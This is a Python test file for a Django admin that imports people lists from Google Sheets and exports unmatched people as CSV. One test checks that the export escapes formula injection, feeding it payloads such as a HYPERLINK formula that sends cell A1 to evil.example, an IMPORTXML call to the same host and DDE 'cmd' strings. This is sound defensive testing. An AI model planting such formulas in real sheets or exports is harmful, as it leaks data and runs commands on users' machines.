"""Lists in the admin: last load and counts, entries by what matched, the CSV of the people
not found among Humans, the column mapping edited in a form."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from integrations.models import SyncRun
from lists.models import ListEntry, PeopleList


@pytest.fixture
def staff(transactional_db) -> Client:
    admin = User.objects.create_superuser("admin", "admin@example.org", "pw-for-tests-only")
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(admin)  # django-axes authenticates only with a request
    return client


@pytest.fixture
def loaded(signup, import_list):
    assert import_list(signup.url).code == 0
    return PeopleList.objects.get()


def test_the_list_of_lists_shows_counts_and_the_last_load(staff, loaded):
    page = staff.get("/admin/lists/peoplelist/").content.decode()

    run = SyncRun.objects.get(kind="lists")
    assert loaded.name in page
    assert f"#{run.pk}" in page
    assert ">14<" in page and ">8<" in page  # entries, our people
    assert "Open the sheet" in page
    assert "Add list" not in page  # lists are added by loading them


def test_a_lists_page_shows_what_its_last_load_found(staff, loaded):
    page = staff.get(f"/admin/lists/peoplelist/{loaded.pk}/change/").content.decode()

    assert "our people: 8 (by Telegram 5, by e-mail 2, by phone 1)" in page
    assert "«Ваш ник в Telegram»" in page  # the headers as read


def test_entries_filter_by_what_matched(staff, loaded):
    by_phone = staff.get("/admin/lists/listentry/?match__exact=phone").content.decode()
    new = staff.get("/admin/lists/listentry/?found=no").context["cl"].result_count

    (phone_entry,) = ListEntry.objects.filter(match="phone")
    assert phone_entry.full_name in by_phone
    assert new == ListEntry.objects.filter(match="").count() == 6


def test_an_entry_links_to_its_human_and_to_its_row_in_the_sheet(staff, loaded):
    entry = ListEntry.objects.filter(match="telegram").select_related("human").first()

    page = staff.get(f"/admin/lists/listentry/{entry.pk}/change/").content.decode()

    assert f"/admin/people/human/{entry.human_id}/change/" in page
    assert f"#gid=0&amp;range=A{entry.row_number}" in page


def test_search_finds_an_entry_by_a_handle_written_with_at(staff, loaded):
    entry = ListEntry.objects.exclude(telegram_username=None).first()

    found = staff.get("/admin/lists/listentry/", {"q": f"@{entry.telegram_username.title()}"})

    assert list(found.context["cl"].result_list) == [entry]


def test_the_people_not_found_export_as_csv_for_notion(staff, loaded):
    response = staff.post(
        "/admin/lists/listentry/",
        {
            "action": "export_not_found",
            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
        },
    )

    text = response.content.decode("utf-8-sig")
    lines = text.strip().splitlines()
    assert response["Content-Type"].startswith("text/csv")
    assert lines[0].startswith("Full name,Telegram,E-mail,Phone")
    assert len(lines) == 1 + 6
    assert "Белкина Варвара Андреевна,@varya_belkina,varya.belkina@yandex.ru,+79264102231" in text


def test_the_column_mapping_is_edited_in_a_form(staff, loaded):
    url = f"/admin/lists/peoplelist/{loaded.pk}/change/"
    form = {f"column_{k}": v for k, v in loaded.columns.items()}

    response = staff.post(url, {"name": "Субботник", "is_active": "on", **form, "column_phone": ""})

    loaded.refresh_from_db()
    assert response.status_code == 302
    assert loaded.name == "Субботник"
    assert loaded.columns["phone"] == ""
    assert loaded.columns["telegram"] == "Ваш ник в Telegram"


def test_the_runs_page_shows_what_was_asked_and_found(staff, loaded):
    run = SyncRun.objects.get(kind="lists")

    page = staff.get(f"/admin/integrations/syncrun/{run.pk}/change/").content.decode()

    assert loaded.spreadsheet_id in page
    assert "new (not among our people): 6" in page


def test_the_export_neutralises_formulas_written_in_the_sheet(staff, google, import_list):
    sheet = google.sheet(
        [
            ["ФИО", "Почта", "Телефон"],
            ['=HYPERLINK("https://evil.example/?"&A1,"Открыть")', "", ""],
            ["Анна", "=1+2@evil.example", "-2+3+cmd|' /C calc'!A0"],
            ["@SUM(1+1)*cmd|' /C calc'!A0", "", "+7 900 000-00-05"],
        ],
        title='=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
    )
    assert import_list(sheet.spreadsheet_id).code == 0
    response = staff.post(
        "/admin/lists/listentry/",
        {
            "action": "export_not_found",
            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
        },
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "-", "@") or c.startswith("+cmd")]
    assert "'=HYPERLINK(" in " ".join(cells)
    assert "+79000000005" in cells  # a phone stays a phone


def test_staff_without_the_permission_see_no_entries_nor_export(loaded):
    clerk = User.objects.create_user("clerk", "clerk@example.org", "pw-for-tests-only")
    clerk.is_staff = True
    clerk.save()
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(clerk)
    pks = list(ListEntry.objects.values_list("pk", flat=True))

    listing = client.get("/admin/lists/listentry/")
    entry = client.get(f"/admin/lists/listentry/{pks[0]}/change/")
    export = client.post(
        "/admin/lists/listentry/", {"action": "export_not_found", "_selected_action": pks}
    )

    assert (listing.status_code, entry.status_code, export.status_code) == (403, 403, 403)


def test_members_with_conflicting_contacts_and_former_members_are_not_exported_as_new(
    staff, google, import_list
):
    from people.models import Human

    Human.objects.create(
        notion_page_id="00000000-0000-4000-8000-0000000000a1",
        full_name="Смирнова Анна",
        telegram_username="anna_smirnova",
    )
    Human.objects.create(
        notion_page_id="00000000-0000-4000-8000-0000000000b2",
        full_name="Козлов Борис",
        email="boris@example.org",
    )
    former = Human.objects.create(
        notion_page_id="00000000-0000-4000-8000-0000000000f1",
        full_name="Орлова Вера",
        telegram_username="vera_orlova",
        is_active=False,
    )
    sheet = google.sheet(
        [
            ["ФИО", "Telegram", "Почта"],
            ["Анна", "@anna_smirnova", "boris@example.org"],
            ["Орлова Вера", "@vera_orlova", ""],
            ["Новиков Глеб", "@gleb_n", ""],
        ]
    )
    assert import_list(sheet.spreadsheet_id).code == 0

    response = staff.post(
        "/admin/lists/listentry/",
        {
            "action": "export_not_found",
            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
        },
    )
    conflicts = staff.get("/admin/lists/listentry/", {"found": "conflict"}).context["cl"]
    formers = staff.get("/admin/lists/listentry/", {"found": "former"}).context["cl"]
    lists_page = staff.get("/admin/lists/peoplelist/").context["cl"]

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert [row[0] for row in rows] == ["Новиков Глеб"]
    assert [e.full_name for e in conflicts.result_list] == ["Анна"]
    assert [(e.full_name, e.former_member) for e in formers.result_list] == [
        ("Орлова Вера", former)
    ]
    assert lists_page.result_list[0].n_new == 1
